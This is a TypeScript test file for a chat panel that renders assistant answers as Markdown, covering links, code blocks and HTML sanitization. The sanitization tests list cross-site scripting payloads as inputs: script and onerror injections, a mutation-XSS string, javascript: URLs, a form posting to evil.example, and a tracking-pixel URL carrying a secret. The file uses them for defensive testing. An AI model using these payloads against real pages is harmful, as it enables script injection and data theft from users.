import { describe, expect, it } from 'vitest';
import { snapshot } from '../support/chat-fixtures.ts';
import { chatSuite, type ChatView, eventually } from '../support/view.ts';

const suite = chatSuite();
async function show(markdown: string): Promise<ChatView> {
  const view = await suite.open();
  const requests: string[] = [];
  const watch = (request: { url(): string }) => requests.push(request.url());
  view.page.on('request', watch);
  const row = { type: 'assistant', id: 'a1', markdown, reasoning: '', state: 'done' } as const;
  await view.notify(snapshot({ rows: [row] }));
  await view.page.locator('.markdown').waitFor({ state: 'attached' });
  view.page.off('request', watch);
  expect(requests, 'nothing is loaded for an answer').toEqual([]);
  return view;
}

function answerHtml(view: ChatView): Promise<string> {
  return view.page.locator('.markdown').evaluate((node) => node.innerHTML);
}

describe('an answer', () => {
  it('is shown as Markdown', async () => {
    const view = await show('# Title\n\nA **bold** word.\n\n- one\n- two\n\n| a | b |\n|---|--:|\n| 1 | 2 |');
    await view.page.getByRole('heading', { name: 'Title' }).waitFor();
    await eventually(() => view.page.getByRole('listitem').allInnerTexts()).toEqual(['one', 'two']);
    await eventually(() => view.page.getByRole('cell').allInnerTexts()).toEqual(['1', '2']);
    await eventually(() => view.page.locator('strong').innerText()).toBe('bold');
  });

  it('shows a task list without controls', async () => {
    const view = await show('- [x] done\n- [ ] open');
    expect(await view.page.locator('.markdown input').count()).toBe(0);
    await eventually(() => view.page.getByRole('listitem').allInnerTexts()).toEqual(['☑ done', '☐ open']);
  });

  it('keeps a few harmless tags', async () => {
    const view = await show('Press <kbd>F5</kbd><br>now.');
    await eventually(() => view.page.locator('.markdown kbd').innerText()).toBe('F5');
    expect(await view.page.locator('.markdown br').count()).toBe(1);
  });
});

describe('unsafe content of an answer', () => {
  it.each([
    ['a script', '<script>window.isHacked = true</script>'],
    ['a handler', 'x <img src="x" onerror="window.isHacked = true"> y'],
    ['a handler on a harmless tag', '<b onclick="window.isHacked = true">b</b>'],
    ['a frame', '<iframe srcdoc="<script>parent.isHacked = true</script>"></iframe>'],
    ['a drawing with a script', '<svg><script>window.isHacked = true</script></svg>'],
    ['a style', '<style>body { display: none }</style>'],
    ['a style attribute', '<p style="position: fixed; inset: 0">over everything</p>'],
    ['a form', '<form action="https://evil.example"><input name="key"><button>Go</button></form>'],
    ['an id', '<b id="status">b</b>'],
    ['a tag that is never closed', '<img src=x onerror=alert(1)//'],
    ['a mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ])('is shown as text: %s', async (_name, markdown) => {
    const view = await show(markdown);
    expect(await view.page.evaluate(() => 'isHacked' in window)).toBe(false);
    const found = await view.page
      .locator('.markdown')
      .evaluate((node) =>
        [...node.querySelectorAll('*')]
          .filter(
            (inner) =>
              /^(script|img|iframe|svg|style|form|input|math|table)$/i.test(inner.tagName) ||
              inner.getAttributeNames().some((name) => /^(on|style$|id$|src$)/.test(name)),
          )
          .map((inner) => inner.outerHTML),
      );
    expect(found).toEqual([]);
    await eventually(() => view.page.locator('.markdown').innerText()).toContain('<');
  });

  it.each([
    'javascript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'java&#115;cript:alert(1)',
    'data:text/html,x',
    'command:x',
  ])('is not a link to %s', async (url) => {
    const view = await show(`[click me](${url}) and <${url}>`);
    await view.page.getByText('click me').waitFor();
    expect(await view.page.locator('.markdown a').count()).toBe(0);
  });

  it('is a link instead of a picture from the network', async () => {
    const view = await show('![the chart](https://evil.example/pixel.png?secret=1)');
    expect(await view.page.locator('img').count()).toBe(0);
    await view.page.getByRole('link', { name: 'the chart' }).click();
    await view.expectPost({ type: 'open-link', url: 'https://evil.example/pixel.png?secret=1' });
  });

  it('is a single link if a picture is inside a link', async () => {
    const view = await show('[![badge](https://a.example/b.svg)](https://a.example)');
    expect(await answerHtml(view)).not.toMatch(/<a[^>]*>.*<a/s);
    await view.page.getByRole('link', { name: 'badge' }).click();
    await view.expectPost({ type: 'open-link', url: 'https://a.example' });
  });
});

describe('a link', () => {
  it('to the web is opened by the host, and the page stays open', async () => {
    const view = await show('See [the docs](https://example.com/a).');
    const before = view.page.url();
    await view.page.getByRole('link', { name: 'the docs' }).click();
    await view.expectPost({ type: 'open-link', url: 'https://example.com/a' });
    expect(view.page.url()).toBe(before);
  });

  it('can be opened with the keyboard', async () => {
    const view = await show('See [the docs](https://example.com/a).');
    await view.page.getByRole('link', { name: 'the docs' }).press('Enter');
    await view.expectPost({ type: 'open-link', url: 'https://example.com/a' });
  });

  it('sends no click to the surrounding page, which would open the link again', async () => {
    const view = await show('See [the docs](https://example.com/a).');
    await view.page.evaluate(() => {
      document.addEventListener('click', () => Object.assign(window, { isClickSeen: true }));
    });
    await view.page.getByRole('link', { name: 'the docs' }).click();
    await view.expectPost({ type: 'open-link', url: 'https://example.com/a' });
    expect(await view.page.evaluate(() => 'isClickSeen' in window)).toBe(false);
  });

  it('to a file opens the file at the given line', async () => {
    const view = await show('Look at [lock.ts](src/lock.ts:61) and [store](src/store.ts#L7).');
    await view.page.getByRole('link', { name: 'lock.ts' }).click();
    await view.expectPost({ type: 'open-file', path: 'src/lock.ts', line: 61 });
    await view.page.getByRole('link', { name: 'store' }).click();
    await view.expectPost({ type: 'open-file', path: 'src/store.ts', line: 7 });
  });

  it('replaces a path with a line number in code, and no other code', async () => {
    const view = await show('In `src/lock.ts:61`, not `src/lock.ts` or `a:1`.');
    expect(await view.page.getByRole('link').count()).toBe(1);
    await view.page.getByRole('link', { name: 'src/lock.ts:61' }).click();
    await view.expectPost({ type: 'open-file', path: 'src/lock.ts', line: 61 });
  });
});

describe('a code block', () => {
  it('names its language and can be copied', async () => {
    const view = await show('```ts\nconst a = 1 < 2;\n```');
    await eventually(() => view.page.locator('.code-language').innerText()).toBe('ts');
    await view.page.getByRole('button', { name: 'Copy' }).click();
    await view.page.getByRole('button', { name: 'Copied' }).waitFor();
    await eventually(() => view.page.evaluate(() => navigator.clipboard.readText())).toBe('const a = 1 < 2;');
  });

  it('can be inserted into the editor, and applied to the open file', async () => {
    const view = await show('```ts\nconst a = 1 < 2;\n```');
    await view.page.getByRole('button', { name: 'Insert' }).click();
    await view.expectPost({ type: 'insert-code', text: 'const a = 1 < 2;' });
    await view.page.getByRole('button', { name: 'Apply' }).click();
    await view.expectPost({ type: 'apply-code', text: 'const a = 1 < 2;' });
  });

  it('reports that it could not be copied', async () => {
    const view = await show('```\nx\n```');
    await view.page.evaluate(() => {
      navigator.clipboard.writeText = () => Promise.reject(new Error('no'));
    });
    await view.page.getByRole('button', { name: 'Copy' }).click();
    await view.page.getByRole('button', { name: 'Copy failed' }).waitFor();
  });

  it('shows markup literally', async () => {
    const view = await show('```html\n<script>alert(1)</script>\n```');
    await eventually(() => view.page.locator('pre code').textContent()).toBe('<script>alert(1)</script>\n');
  });
});
